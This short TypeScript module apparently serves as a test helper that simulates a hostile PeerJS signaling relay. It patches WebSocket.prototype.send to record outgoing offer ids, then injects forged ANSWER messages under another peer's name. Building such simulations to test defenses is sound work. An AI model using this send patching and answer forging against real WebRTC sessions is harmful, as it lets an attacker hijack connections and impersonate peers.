/** What an evil relay can say to a page at any moment: an answer of its own to an offer that was not for it. */
let socket: WebSocket | undefined;
const offers: string[] = []; // connection ids, as PeerJS gave them
const real = WebSocket.prototype.send;
WebSocket.prototype.send = function (data) {
  socket = this;
  const [id] = /"connectionId":"[^"]+"/.exec(String(data)) ?? [];
  if (id && String(data).includes('"OFFER"')) offers.push(id);
  real.call(this, data);
};

/** Answers every offer that is out, in the name of `peer`; how many there are. */
export async function answerFalsely(connections: Iterable<RTCPeerConnection>, peer: string): Promise<number> {
  const waiting = [...connections].filter((pc) => pc.signalingState === 'have-local-offer');
  for (const { localDescription } of waiting) {
    const evil = new RTCPeerConnection();
    if (localDescription) await evil.setRemoteDescription(localDescription);
    await evil.setLocalDescription();
    const sdp = JSON.stringify(evil.localDescription);
    for (const id of offers) {
      const data = `{"type":"ANSWER","src":"${peer}","payload":{"type":"data",${id},"sdp":${sdp}}}`;
      socket?.onmessage?.(new MessageEvent('message', { data }));
    }
  }
  return waiting.length;
}
